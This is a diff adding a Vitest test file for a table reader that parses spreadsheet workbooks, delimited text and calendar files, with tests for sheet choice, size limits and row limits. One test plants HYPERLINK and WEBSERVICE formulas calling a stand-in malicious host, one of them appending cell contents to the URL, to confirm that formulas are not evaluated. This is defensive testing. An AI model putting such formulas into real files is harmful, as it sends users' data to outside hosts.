@@ -1,0 +1,105 @@
+// @vitest-environment jsdom
+import { zipSync } from 'fflate/browser'
+import { describe, expect, test } from 'vitest'
+import { readTable } from './readTable.ts'
+import { largestFile, mostRows } from './table.ts'
+import { tableOfFile } from './tableOfFile.ts'
+
+const bytesOf = (text: string) => new TextEncoder().encode(text)
+const xml = (inside: string) => bytesOf(`<?xml version="1.0" encoding="UTF-8"?>${inside}`)
+const office = 'http://schemas.openxmlformats.org'
+
+/** A workbook as a program would hardly write it, its sheets given as the inside of their rows. */
+function workbook(sheets: Readonly<Record<string, string>>): Uint8Array<ArrayBuffer> {
+  const names = Object.keys(sheets)
+  const listed = names
+    .map((name, at) => `<sheet name="${name}" sheetId="${at + 1}" r:id="r${at + 1}"/>`)
+    .join('')
+  const links = names
+    .map(
+      (_, at) =>
+        `<Relationship Id="r${at + 1}" Type="${office}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet${at + 1}.xml"/>`,
+    )
+    .join('')
+  const main = `xmlns="${office}/spreadsheetml/2006/main" xmlns:r="${office}/officeDocument/2006/relationships"`
+  const files = {
+    'xl/workbook.xml': xml(`<workbook ${main}><sheets>${listed}</sheets></workbook>`),
+    'xl/_rels/workbook.xml.rels': xml(
+      `<Relationships xmlns="${office}/package/2006/relationships">${links}</Relationships>`,
+    ),
+    ...Object.fromEntries(
+      names.map((name, at) => [
+        `xl/worksheets/sheet${at + 1}.xml`,
+        xml(`<worksheet ${main}><sheetData>${sheets[name]}</sheetData></worksheet>`),
+      ]),
+    ),
+  }
+  return zipSync(files)
+}
+
+const text = (at: string, words: string) =>
+  `<c r="${at}" t="inlineStr"><is><t>${words}</t></is></c>`
+const row = (at: number, cells: string) => `<row r="${at}">${cells}</row>`
+const head = row(1, text('A1', 'Títol') + text('B1', 'Data'))
+
+describe('a workbook', () => {
+  test('has of a formula what it last came to, and of a link its words; nothing is worked out', async () => {
+    const cells = [
+      `<c r="A2" t="str"><f>HYPERLINK("https://mal.example/"&amp;A1,"Ball")</f><v>Ball</v></c>`,
+      `<c r="B2"><f>WEBSERVICE("https://mal.example")+1</f><v>46353</v></c>`,
+    ]
+    const found = await readTable(workbook({ Full: head + row(2, cells.join('')) }))
+    expect(found).toMatchObject({ names: ['títol', 'data'], rows: [['Ball', '46353']] })
+  })
+
+  test('keeps long numbers as they are written there', async () => {
+    const cells = `<c r="A2"><v>1.2345678901234567E+25</v></c>${text('B2', '012')}`
+    const found = await readTable(workbook({ Full: head + row(2, cells) }))
+    expect(found).toMatchObject({ rows: [['1.2345678901234567E+25', '012']] })
+  })
+
+  test('is read by the first sheet that holds anything, or by the one that is asked for', async () => {
+    const one = row(2, text('A2', 'Ball'))
+    const file = () =>
+      workbook({
+        Portada: row(1, text('A1', 'Notes')),
+        Un: head + one,
+        Dos: head + one + row(3, text('A3', 'Cant')),
+      })
+    expect(await readTable(file())).toMatchObject({ sheets: ['Portada', 'Un', 'Dos'], sheet: 1 })
+    expect(await readTable(file(), { sheet: 2 })).toMatchObject({ sheet: 2 })
+    expect(await readTable(file(), { sheet: 0 })).toEqual({ problem: 'empty' })
+    expect(await readTable(file(), { sheet: 9 })).toEqual({ problem: 'empty' })
+  })
+
+  test('of which another sheet is broken is read by its first', async () => {
+    const one = head + row(2, text('A2', 'Ball'))
+    const found = await readTable(workbook({ Un: one, Dos: one + row(2, text('A2', 'Ball')) }))
+    expect(found).toMatchObject({ rows: [['Ball', '']], sheet: 0, sheets: [''] })
+  })
+
+  test('that is cut off, empty or no workbook is said', async () => {
+    const whole = workbook({ Full: head })
+    expect(await readTable(whole)).toEqual({ problem: 'empty' })
+    expect(await readTable(whole.slice(0, 200))).toEqual({ problem: 'unreadable' })
+    expect(await readTable(zipSync({ 'a.txt': bytesOf('a') }))).toEqual({ problem: 'unreadable' })
+  })
+})
+
+test('a file of fifty megabytes is refused before it is read', async () => {
+  const file = new Blob([new Uint8Array(50_000_000)])
+  Object.assign(file, { arrayBuffer: () => Promise.reject(new Error('it is read')) })
+  expect(file.size).toBeGreaterThan(largestFile)
+  expect(await tableOfFile(file)).toEqual({ problem: 'tooLarge' })
+})
+
+test('more rows than a person can look through are said', async () => {
+  const rows = (many: number) => bytesOf(`Títol;Data\r\n${'Ball;27/11/2026\r\n'.repeat(many)}`)
+  expect(await readTable(rows(mostRows))).toMatchObject({ names: ['títol', 'data'] })
+  expect(await readTable(rows(mostRows + 1))).toEqual({ problem: 'tooMany' })
+})
+
+test('a calendar is told by what it holds, and read where it is asked for', async () => {
+  const file = bytesOf('\uFEFFBEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n')
+  expect(await readTable(file)).toEqual({ problem: 'calendar' })
+})
